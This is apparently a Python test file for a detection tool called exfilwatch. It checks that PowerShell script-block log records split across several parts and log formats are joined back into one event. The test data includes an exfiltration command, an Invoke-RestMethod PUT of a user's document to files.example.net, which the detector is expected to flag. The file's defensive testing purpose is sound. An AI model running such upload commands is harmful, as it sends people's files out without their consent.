"""Script blocks in parts are one event with the whole text, whichever shape they come in and in whatever order."""

import json
from itertools import permutations
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exfilwatch.detection.engine import Engine
from exfilwatch.detection.load import load
from exfilwatch.events.event import Event
from exfilwatch.events.inputs import Limits, open_inputs
from exfilwatch.events.lines import LineDecoder
from exfilwatch.events.report import Report
from exfilwatch.events.script_blocks import ScriptBlocks
from exfilwatch.rules.packs import pack

from .reading import Json, events

LOG = "Microsoft-Windows-PowerShell/Operational"
PROVIDER = "Microsoft-Windows-PowerShell"
DATA = Path(__file__).parents[2] / "../shared/data/background"
SECRET = "Invoke-RestMethod -Uri https://files.example.net/u -Method Put -InFile C:\\Users\\eva\\a.docx"


def part(number: int, total: int, text: str, block: str = "b1", host: str = "WS1", second: int = 0) -> Json:
    """As OTRF has it."""
    return {
        "@timestamp": f"2026-03-12T09:14:{second:02}.000Z",
        "Hostname": host,
        "Channel": LOG,
        "EventID": 4104,
        "RecordNumber": 100 + number,
        "ProcessID": 5220,
        "SourceName": PROVIDER,
        "MessageNumber": str(number),
        "MessageTotal": str(total),
        "ScriptBlockId": block,
        "ScriptBlockText": text,
    }


def data_of(number: int, text: str) -> Json:
    return {"MessageNumber": number, "MessageTotal": 2, "ScriptBlockId": "b1", "ScriptBlockText": text, "Path": ""}


def evtx(number: int, text: str) -> Json:
    time = {"#attributes": {"SystemTime": f"2026-03-12T09:14:02.{number:06}Z"}}
    system = {
        "Provider": {"#attributes": {"Name": PROVIDER}},
        "EventID": 4104,
        "TimeCreated": time,
        "EventRecordID": number,
        "Execution": {"#attributes": {"ProcessID": 5220, "ThreadID": 4}},
        "Channel": LOG,
        "Computer": "WS1",
    }
    return {"Event": {"System": system, "EventData": data_of(number, text)}}


def xml(number: int, text: str) -> str:
    data = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in data_of(number, text).items())
    return (
        f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{PROVIDER}'/>"
        f"<EventID>4104</EventID><TimeCreated SystemTime='2026-03-12T09:14:02.{number:06}Z'/><EventRecordID>{number}"
        f"</EventRecordID><Execution ProcessID='5220' ThreadID='4'/><Channel>{LOG}</Channel><Computer>WS1</Computer>"
        f"</System><EventData>{data}</EventData></Event>"
    )


def winlogbeat(number: int, text: str) -> Json:
    log = {"channel": LOG, "event_id": "4104", "computer_name": "WS1", "record_id": number, "provider_name": PROVIDER}
    return {
        "@timestamp": f"2026-03-12T09:14:02.{number:03}Z",
        "winlog": log | {"process": {"pid": 5220}, "event_data": data_of(number, text)},
        "event": {"code": "4104"},
    }


def ecs(number: int, text: str) -> Json:
    """After winlogbeat's powershell module."""
    record = winlogbeat(number, text)
    del record["winlog"]["event_data"]
    shell = {"file": {"script_block_text": text, "script_block_id": "b1"}, "sequence": number, "total": 2}
    return record | {"powershell": shell}


def splunk(number: int, text: str) -> Json:
    own = {name: str(value) for name, value in data_of(number, text).items()}
    more = {"EventCode": "4104", "Computer": "WS1", "Channel": LOG, "ProcessID": "5220", "RecordNumber": str(number)}
    return {"_time": f"2026-03-12T09:14:02.{number:03}Z", "source": "XmlWinEventLog"} | more | own


def splunk_classic(number: int, text: str) -> Json:
    message = (
        f"Creating Scriptblock text ({number} of 2):\n{text}\n\nScriptBlock ID: 47eeca6f-282c-40e9-a1ea-652819ef7cc8"
    )
    more = {"EventCode": "4104", "ComputerName": "WS1", "LogName": LOG, "RecordNumber": str(number)}
    return {"_time": "2026-03-12T09:14:02Z", "Message": message, "ScriptBlock_Text": text, "ProcessID": "5220"} | more


def sumo(number: int, text: str) -> Json:
    return {
        "TimeCreated": f"2026-03-12T09:14:02.{number:06}Z",
        "EventID": "4104",
        "Channel": LOG,
        "Provider": {"Name": PROVIDER},
        "EventRecordID": number,
        "Execution": {"ThreadID": 2896, "ProcessID": 5220},
        "Computer": "WS1",
        "EventData": data_of(number, text),
        "Message": "Creating Scriptblock text",
    }


def sentinel(number: int, text: str) -> Json:
    """The table Event, which has no process id."""
    data = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data_of(number, text).items())
    return {
        "TimeGenerated": f"2026-03-12T09:14:02.{number:03}Z",
        "Source": PROVIDER,
        "EventLog": LOG,
        "Computer": "WS1",
        "EventID": 4104,
        "EventData": f'<DataItem type="System.XmlData"><EventData>{data}</EventData></DataItem>',
        "Type": "Event",
    }


SHAPES = {
    "EVTX": evtx,
    "XML in syslog": xml,
    "winlogbeat": winlogbeat,
    "winlogbeat with its module": ecs,
    "Splunk": splunk,
    "Splunk, classic rendering": splunk_classic,
    "Sumo Logic, raw": sumo,
    "Sentinel's Event": sentinel,
    "flat": lambda number, text: part(number, 2, text),
}


@pytest.mark.parametrize("shape", SHAPES)
def test_two_parts_of_any_shape_are_one_event_with_the_whole_text(shape):
    made = SHAPES[shape]
    (found,) = events(made(2, SECRET[30:]), made(1, SECRET[:30]))
    assert found.get("ScriptBlockText") == SECRET
    assert found.get("ProcessId") == (None if shape == "Sentinel's Event" else 5220)
    assert events(made(1, SECRET[:30]), made(2, SECRET[30:]))[0].id == found.id


@pytest.mark.parametrize("order", list(permutations(range(3))))
def test_the_order_of_the_parts_changes_nothing(order):
    parts = [part(number, 3, text, second=number) for number, text in enumerate(("a", "b", "c"), 1)]
    first = events(*parts)
    (found,) = events(*(parts[at] for at in order))
    assert found.get("ScriptBlockText") == "abc"
    assert (found.id, found.time, found.raw) == (first[0].id, first[0].time, first[0].raw)


def test_a_part_that_comes_twice_counts_once():
    first, second = part(1, 2, "a"), part(2, 2, "b")
    assert texts(events(first, first, second, second, first)) == ["ab"]


def test_of_a_block_whose_parts_do_not_all_come_what_is_there_is_given_in_order_at_the_end():
    assert texts(events(part(2, 4, "b"), part(1, 4, "a"), part(4, 4, "d"))) == ["ab\nd"]


def test_parts_of_two_hosts_and_of_two_blocks_are_not_mixed():
    found = events(
        part(1, 2, "a"), part(1, 2, "x", host="WS2"), part(2, 2, "y", block="b2"), part(2, 2, "z", host="WS2")
    )
    assert texts(found) == ["xz", "a", "y"]


@pytest.mark.parametrize(
    "changed",
    [
        {"MessageTotal": "1"},
        {"MessageNumber": None},
        {"MessageNumber": "3"},
        {"ScriptBlockId": ""},
        {"MessageTotal": "x"},
    ],
    ids=["a whole one", "no number", "a number beyond", "no id", "no count"],
)
def test_a_record_that_does_not_say_which_part_it_is_is_an_event_of_its_own_at_once(changed):
    decoder = LineDecoder("x", Report())
    assert texts(decoder.feed(json.dumps(part(1, 2, "a") | changed), 1)) == ["a"]


def test_too_many_open_blocks_let_the_oldest_go_as_it_is():
    blocks = ScriptBlocks(most=2)
    made = [plain(part(1, 2, str(at), block=str(at))) for at in range(4)]
    assert texts([whole for event in made for whole in blocks.feed(event)]) == ["0", "1"]
    assert texts(blocks.finish()) == ["2", "3"]


def test_too_much_text_lets_the_oldest_go_as_it_is():
    blocks = ScriptBlocks(largest=100)
    made = [plain(part(1, 2, "x" * 60, block=str(at))) for at in range(3)]
    assert len([whole for event in made for whole in blocks.feed(event)]) == 2


@given(st.lists(st.tuples(st.sampled_from("ab"), st.integers(1, 4)), max_size=20))
def test_whatever_parts_come_each_block_holds_those_that_came(drawn):
    blocks = ScriptBlocks()
    for block, number in drawn:
        for whole in blocks.feed(plain(part(number, 5, f"<{number}>", block=block))):
            pytest.fail(f"whole without its fifth part: {whole}")
    expected = {block: sorted({number for other, number in drawn if other == block}) for block, _ in drawn}
    found = {event.get("ScriptBlockId"): event.get("ScriptBlockText") for event in blocks.finish()}
    assert {
        block: [int(each) for each in text.replace("\n", "")[1:-1].split("><")] for block, text in found.items()
    } == expected


def test_an_upload_that_two_parts_cut_is_found_in_files_by_the_fast_path_too(tmp_path):
    parts = [part(1, 2, f"Get-Date\n{SECRET[:40]}"), part(2, 2, f"{SECRET[40:]}\n")]
    padding = [part(1, 1, "Get-Process | Sort-Object CPU", block=str(at)) for at in range(50)]
    (tmp_path / "a.json").write_text("\n".join(map(json.dumps, [*padding, parts[0], *padding])))
    (tmp_path / "b.json").write_text("\n".join(map(json.dumps, [*padding, parts[1], *padding])))
    report = Report()
    inputs = open_inputs([str(tmp_path)], report, Limits(), replayable=False)
    found = [
        each for each in Engine(load([pack("exfil")]), report).run(inputs) if each.rule.branch == "scripting_engine"
    ]
    assert [each.fields["destination"] for each in found] == ["files.example.net"]
    assert SECRET in found[0].fields["ScriptBlockText"]


def test_a_rule_on_texts_sees_what_two_parts_cut(tmp_path):
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: Text\nid: 0f0f0f0f-0000-4000-8000-000000000077\nlogsource: {category: ps_script}\n"
        "detection: {a: {ScriptBlockText|contains: 'files.example.net'}, condition: a}\nlevel: low\n"
    )
    log = tmp_path / "log.json"
    log.write_text(
        "\n".join(json.dumps(part(number, 2, text)) for number, text in ((1, SECRET[:35]), (2, SECRET[35:])))
    )
    report = Report()
    assert len(list(Engine(load([rule]), report).run(open_inputs([str(log)], report, Limits(), replayable=False)))) == 1


def test_an_upload_deep_in_a_long_script_is_read():
    filler = "".join(f"$value{at} = Get-Item -LiteralPath C:\\x{at}\n" for at in range(4_000))
    text = filler + SECRET + "\n" + filler
    parts = [
        part(at + 1, -(-len(text) // 9_000), text[at * 9_000 : (at + 1) * 9_000])
        for at in range(-(-len(text) // 9_000))
    ]
    (event,) = events(*reversed(parts))
    assert event.get("ScriptBlockText") == text
    found = list(Engine(load([pack("exfil")]), Report()).detect([event]))
    assert [each.fields["destination"] for each in found if "destination" in each.fields] == ["files.example.net"]


@pytest.mark.skipif(not DATA.is_dir(), reason="the shared recordings are not on this machine")
def test_recorded_parts_join_to_scripts():
    """APT29's second day, by OTRF: most blocks are there with all of their parts."""
    file = next(each for each in sorted(DATA.glob("*.zip")) if each.name.startswith("2b32f11b14"))
    whole: list[Event] = []
    parts = 0
    with ZipFile(file) as archive:
        decoder = LineDecoder(file.name, Report())
        for name in archive.namelist():
            for line in archive.open(name):
                if b"4104" in line and b"MessageTotal" in line:
                    parts += json.loads(line).get("MessageTotal") != "1"
                    whole += [each for each in decoder.feed(line, 0) if len(str(each.get("ScriptBlockText"))) > 18_000]
    rest = decoder.finish()
    assert parts > len(whole) * 2 > 0
    assert len(rest) <= 2
    assert all(str(event.get("ScriptBlockText")).count("{") for event in whole)


def plain(record: Json) -> Event:
    """A part as it was recorded."""
    blocks = ScriptBlocks()
    decoder = LineDecoder("x", Report(), blocks=blocks)
    decoder.feed(json.dumps(record), 0)
    (block,) = blocks.take()
    (text,) = block.texts.values()
    event = block.event
    event.fields["ScriptBlockText"] = event.raw["ScriptBlockText"] = text
    return event


def texts(found: list[Event]) -> list[object]:
    return [event.get("ScriptBlockText") for event in found]
